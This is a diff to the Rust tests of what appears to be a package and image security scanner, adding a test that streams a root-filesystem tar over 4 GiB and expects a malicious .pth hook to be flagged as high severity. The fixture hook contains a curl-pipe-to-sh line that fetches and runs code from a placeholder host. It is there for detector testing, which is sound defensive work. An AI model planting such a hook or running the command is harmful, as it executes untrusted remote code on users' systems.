@@ -157,6 +157,9 @@ fn an_sdist_setup_py_is_install_time_code_and_an_honest_one_passes() {
             "corp-internal-99.0/corp_internal/__init__.py",
             b"VERSION = '99.0'\n",
         ),
+        // an os-release does not make an sdist a root filesystem (judged as one, its
+        // setup.py would be nobody's install code)
+        ("etc/os-release", b"ID=debian\n"),
     ]));
     std::fs::write(dir.path().join("corp-internal-99.0.tar.gz"), sdist).unwrap();
     let (json, out) = scan_json(dir.path(), &[]);
@@ -812,6 +815,47 @@ fn an_image_env_pythonpath_puts_its_directory_on_the_path() {
             .unwrap()
             .iter()
             .any(|f| f["rule"] == "CUS001"),
+        "{json:#}"
+    );
+}
+
+#[test]
+fn a_root_filesystem_tar_past_4_gib_is_streamed_and_the_hook_after_its_model_found() {
+    use std::io::{Seek, Write};
+    // `docker export` of an ML image: os-release, a 4.5 GiB weights file (a hole on disk), a hook
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("export.tar");
+    let mut f = std::fs::File::create(&path).unwrap();
+    let member = |f: &mut std::fs::File, name: &str, size: u64, data: Option<&[u8]>| {
+        let mut h = tar::Header::new_gnu();
+        h.set_path(name).unwrap();
+        h.set_size(size);
+        h.set_mode(0o644);
+        h.set_cksum();
+        f.write_all(h.as_bytes()).unwrap();
+        match data {
+            Some(d) => f.write_all(d).unwrap(),
+            None => {
+                f.seek(std::io::SeekFrom::Current(size as i64)).unwrap();
+            }
+        }
+        f.write_all(&vec![0; (512 - size % 512) as usize % 512])
+            .unwrap();
+    };
+    member(&mut f, "etc/os-release", 10, Some(b"ID=debian\n"));
+    member(&mut f, "opt/model/weights.bin", 9 << 29, None);
+    let hook = b"import os; os.system('curl -s https://z.invalid | sh')\n";
+    let at = "usr/lib/python3/dist-packages/after.pth";
+    member(&mut f, at, hook.len() as u64, Some(hook));
+    f.write_all(&[0; 1024]).unwrap();
+    drop(f);
+    let (json, out) = scan_json(&path, &[]);
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    let want = format!("export.tar › root filesystem › layer 1 › {at}");
+    assert!(
+        found(&json, dir.path())
+            .iter()
+            .any(|(r, s, p)| r == "PTH001" && s == "high" && p == &format!("{want}:1")),
         "{json:#}"
     );
 }
